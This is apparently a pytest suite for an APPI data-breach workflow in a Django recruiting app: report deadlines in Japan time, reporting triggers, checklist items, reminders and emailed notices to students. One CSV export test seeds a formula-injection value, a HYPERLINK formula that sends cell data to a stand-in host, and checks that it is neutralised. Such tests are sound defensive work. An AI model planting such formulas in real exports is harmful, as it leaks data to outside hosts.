"""The APPI workflow: report clocks, triggers, the nine items, reminders, the company's notice to students."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from django_tenants.utils import schema_context

from accounts.models import Role, User
from incidents.errors import IncidentError
from incidents.models import AffectedStudent, DataIncident, Visibility
from incidents.services.appi import (
    REPORT_ITEMS,
    affected_students_add,
    data_incident_checklist_set,
    data_incident_classify,
    data_incident_reminders,
    data_incident_report_sent,
    report_due_dates,
    report_triggers,
)
from incidents.services.leak import leak_report
from notifications.models import Unsubscribe
from notifications.services import outbox_deliver_due
from tests.incidents.helpers import outbox_rows, tenant_client

JST = ZoneInfo("Asia/Tokyo")


def test_report_clocks_count_japanese_calendar_days():
    aware = datetime(2026, 4, 1, 10, 0, tzinfo=JST)
    preliminary, final = report_due_dates(aware_at=aware, malicious=False)
    assert preliminary == datetime(2026, 4, 4, 23, 59, 59, tzinfo=JST)
    assert final == datetime(2026, 5, 1, 23, 59, 59, tzinfo=JST)
    assert report_due_dates(aware_at=aware, malicious=True)[1] == datetime(
        2026, 5, 31, 23, 59, 59, tzinfo=JST
    )
    # 23:30 UTC is already the next day in Japan: the clock starts from the Japanese date.
    late = datetime(2026, 3, 31, 23, 30, tzinfo=ZoneInfo("UTC"))
    assert report_due_dates(aware_at=late, malicious=False)[0] == datetime(2026, 4, 4, 23, 59, 59, tzinfo=JST)


@pytest.fixture
def data(tenants) -> DataIncident:
    return leak_report(
        tenant=tenants["acme"].tenant, actor="ops@example.jp", note="誤送信の疑い"
    ).incident.data


@pytest.mark.django_db
def test_classification_moves_the_clocks_and_names_the_triggers(data):
    assert report_triggers(data=data) == []
    aware = timezone.now() - timedelta(days=1)
    data = data_incident_classify(
        actor="ops",
        data=data,
        aware_at=aware,
        categories=["name", "contact", "sensitive"],
        sensitive=False,
        financial_risk=False,
        malicious=True,
    )
    assert data.final_due == report_due_dates(aware_at=aware, malicious=True)[1]
    assert report_triggers(data=data) == [
        "要配慮個人情報が含まれる",
        "不正の目的をもって行われたおそれがある",
    ]
    affected_students_add(
        data_incident=data, tenant=data.incident.tenants.get(), candidate_ids=range(1, 1002)
    )
    assert "本人の数が1,000人を超える" in report_triggers(data=data)
    with pytest.raises(IncidentError):
        data_incident_classify(
            actor="ops",
            data=data,
            aware_at=aware,
            categories=["blood"],
            sensitive=False,
            financial_risk=False,
            malicious=False,
        )
    with pytest.raises(IncidentError, match="未来"):
        data_incident_classify(
            actor="ops",
            data=data,
            aware_at=timezone.now() + timedelta(days=1),
            categories=[],
            sensitive=False,
            financial_risk=False,
            malicious=False,
        )


@pytest.mark.django_db
def test_final_report_needs_all_nine_items(data):
    assert len(REPORT_ITEMS) == 9
    data_incident_report_sent(actor="ops", data=data, which="preliminary")
    with pytest.raises(IncidentError, match="9 項目"):
        data_incident_report_sent(actor="ops", data=data, which="final")
    data_incident_checklist_set(
        actor="ops", data=data, items={key: f"{label}について記載" for key, label in REPORT_ITEMS}
    )
    data = data_incident_report_sent(actor="ops", data=data, which="final")
    assert data.preliminary_sent_at and data.final_sent_at


@pytest.mark.django_db
def test_reminders_before_each_deadline_once(data, mailoutbox):
    assert data_incident_reminders(now=data.preliminary_due - timedelta(days=2)) == []
    assert data_incident_reminders(now=data.preliminary_due - timedelta(hours=12)) == [
        (data.pk, "preliminary")
    ]
    assert "速報" in mailoutbox[0].subject and mailoutbox[0].to == ["support@localhost"]
    assert data_incident_reminders(now=data.preliminary_due - timedelta(hours=6)) == []
    assert data_incident_reminders(now=data.final_due - timedelta(days=6)) == [(data.pk, "final")]
    assert "確報" in mailoutbox[1].subject


@pytest.mark.django_db
def test_support_page_shows_clocks_and_checklist(staff_client, data):
    page = staff_client.get(f"/support/incidents/{data.incident_id}/data/").content.decode()
    assert "速報の期限" in page and "確報の期限" in page and "再発防止のための措置" in page
    response = staff_client.post(
        f"/support/incidents/{data.incident_id}/data/",
        {"action": "classify", "aware_at": "2026-04-01T10:00", "categories": ["name"], "malicious": "on"},
    )
    assert response.status_code == 302
    data.refresh_from_db()
    assert data.malicious and data.final_due == datetime(2026, 5, 31, 23, 59, 59, tzinfo=JST)
    assert (
        staff_client.post(f"/support/incidents/{data.incident_id}/data/", {"action": "final"}).status_code
        == 400
    )


@pytest.mark.django_db
def test_affected_students_csv_neutralises_formulas_and_is_audited(tenants, data):
    from candidates.models import AuditEntry, Candidate

    acme = tenants["acme"]
    with schema_context(acme.schema):
        attacker = Candidate.objects.create(
            family_name='=HYPERLINK("http://evil.example/"&A1)', given_name="太郎", email="@SUM(1+1)@x.jp"
        )
        plain = Candidate.objects.create(
            family_name="山田", given_name="花子", email="hanako@student.example.jp"
        )
        before = AuditEntry.objects.count()
    affected_students_add(data_incident=data, tenant=acme.tenant, candidate_ids=[attacker.pk, plain.pk])
    exported = tenant_client(acme).get(f"/status/data/{data.incident_id}/export.csv")
    rows = {row["学生ID"]: row for row in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
    # The candidate export's rule (candidates.textnorm.neutralise_formula): a quote before a formula.
    assert rows[str(attacker.pk)]["氏名"].startswith("'=HYPERLINK(")
    assert rows[str(attacker.pk)]["メールアドレス"] == "'@SUM(1+1)@x.jp"
    assert rows[str(plain.pk)]["氏名"] == "山田 花子"
    with schema_context(acme.schema):
        entry = AuditEntry.objects.order_by("-pk").first()
        assert AuditEntry.objects.count() == before + 1
    assert entry.action == "export" and entry.actor == acme.admin_email
    assert entry.student_count == 2 and sorted(entry.candidate_ids) == sorted([attacker.pk, plain.pk])


@pytest.mark.django_db
def test_company_admin_exports_students_and_sends_the_notice(
    tenants, data, eager_celery, django_capture_on_commit_callbacks, mailoutbox
):
    from candidates.models import Candidate

    acme = tenants["acme"]
    with schema_context(acme.schema):
        students = [
            Candidate.objects.create(family_name="山田", given_name="太郎", email="taro@student.example.jp"),
            Candidate.objects.create(
                family_name="佐藤", given_name="花子", email="hanako@student.example.jp"
            ),
            Candidate.objects.create(family_name="鈴木", given_name="一郎", email=""),
        ]
        User.objects.create_user(
            username="r2@acme.example.jp", email="r2@acme.example.jp", role=Role.RECRUITER
        )
        Unsubscribe.objects.create(candidate=students[0])
    affected_students_add(data_incident=data, tenant=acme.tenant, candidate_ids=[s.pk for s in students])
    admin = tenant_client(acme)
    exported = admin.get(f"/status/data/{data.incident_id}/export.csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][0] == "学生ID" and {row[1] for row in rows[1:]} == {"山田 太郎", "佐藤 花子", "鈴木 一郎"}
    assert (
        tenant_client(acme, email="r2@acme.example.jp").get(f"/status/data/{data.incident_id}/").status_code
        == 403
    )
    assert tenant_client(tenants["globex"]).get(f"/status/data/{data.incident_id}/").status_code == 404
    page = admin.get(f"/status/data/{data.incident_id}/").content.decode()
    assert "漏えい等が発生し、又は発生したおそれがある個人データの項目" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = admin.post(
            f"/status/data/{data.incident_id}/",
            {"subject": "【アクメ商事】個人データの漏えい等に関するお知らせ", "body": "お詫びとお知らせ"},
        )
    assert response.status_code == 302
    queued = outbox_rows(acme)
    assert sorted((row["to_address"], row["candidate_id"]) for row in queued) == [
        ("hanako@student.example.jp", students[1].pk),
        ("taro@student.example.jp", students[0].pk),
    ]
    assert {(row["kind"], row["subject"], row["body"]) for row in queued} == {
        ("transactional", "【アクメ商事】個人データの漏えい等に関するお知らせ", "お詫びとお知らせ")
    }
    # Delivered for real, even to a student who opted out of marketing mail (a legal notice is not marketing).
    outbox_deliver_due(schema_name=acme.schema)
    assert sorted(m.to[0] for m in mailoutbox) == ["hanako@student.example.jp", "taro@student.example.jp"]
    assert {row["status"] for row in outbox_rows(acme)} == {"sent"}
    # The admin's export shows each student's delivery as the outbox records it.
    exported = list(
        csv.DictReader(
            io.StringIO(admin.get(f"/status/data/{data.incident_id}/export.csv").content.decode("utf-8-sig"))
        )
    )
    assert {row["氏名"]: row["配信状況"] for row in exported} == {
        "山田 太郎": "送信済み",
        "佐藤 花子": "送信済み",
        "鈴木 一郎": "",
    }
    rows = {row.candidate_id: row for row in AffectedStudent.objects.filter(data_incident=data)}
    assert rows[students[0].pk].notice_sent_at and rows[students[1].pk].notice_sent_at
    assert (
        rows[students[2].pk].notice_sent_at is None
        and rows[students[2].pk].notice_error == "メールアドレスなし"
    )
    with django_capture_on_commit_callbacks(execute=True):
        again = admin.post(f"/status/data/{data.incident_id}/", {"subject": "x", "body": "x"})
    assert again.status_code == 302  # one left without an address: queued again, nobody e-mailed twice
    assert len(outbox_rows(acme)) == 2
    outbox_deliver_due(schema_name=acme.schema)
    assert len(mailoutbox) == 2


@pytest.mark.django_db
def test_company_is_told_and_acknowledges_the_data_incident(tenants, data):
    from incidents.services.notify import incident_acknowledge

    assert data.incident.visibility == Visibility.TENANTS
    ack = incident_acknowledge(incident=data.incident, tenant=tenants["acme"].tenant, by="admin", via="email")
    assert ack.acknowledged_at is not None
    with pytest.raises(IncidentError):
        incident_acknowledge(incident=data.incident, tenant=tenants["globex"].tenant, by="admin", via="email")
